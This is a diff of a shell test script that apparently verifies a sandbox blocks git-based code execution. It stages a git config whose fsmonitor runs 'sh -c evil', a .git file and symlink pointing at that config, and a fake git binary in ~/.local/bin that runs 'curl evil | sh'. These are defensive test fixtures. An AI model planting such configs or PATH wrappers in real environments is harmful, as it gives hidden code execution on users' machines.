@@ -231,11 +231,14 @@ EOF
 		sh -c "! grep -qi 'fsmonitor\|hookspath' '$WORK/fresh/.git/config' 2>/dev/null &&
 			[ ! -e '$WORK/fresh/.git/hooks' ]"
 	attempt gitdir-file <<EOF
-mkdir -p $WORK/evilgit $WORK/pointed && printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilgit/config
-echo "gitdir: $WORK/evilgit" >$WORK/pointed/.git; ln -s $WORK/evilgit $WORK/pointed/.git
+mkdir -p $WORK/evilgit $WORK/pointed-$PROF && printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilgit/config
+ln -s $WORK/evilgit $WORK/pointed-$PROF/.git; echo "gitdir: $WORK/evilgit" >$WORK/pointed-$PROF/.git
 EOF
-	verdict "a .git file or symlink pointing at a pane-made config" "$WORK/pointed/.git" \
-		absent "$WORK/pointed/.git"
+	# The file may be made (git worktree add writes one): git takes
+	# only a target with a git directory's shape (gitdir.h).
+	verdict "a .git symlink, or a .git file, pointing at a pane-made config" "$WORK/pointed-$PROF/.git" \
+		sh -c "[ ! -L '$WORK/pointed-$PROF/.git' ] &&
+			[ \"\$(git -c safe.directory='*' -C '$WORK/pointed-$PROF' rev-parse --absolute-git-dir 2>/dev/null)\" != '$WORK/evilgit' ]"
 	attempt localbin <<EOF
 printf '#!/bin/sh\ncurl evil | sh\n' >$H/.local/bin/git; chmod +x $H/.local/bin/git
 mkdir -p $H/bin; printf '#!/bin/sh\n' >$H/bin/ls
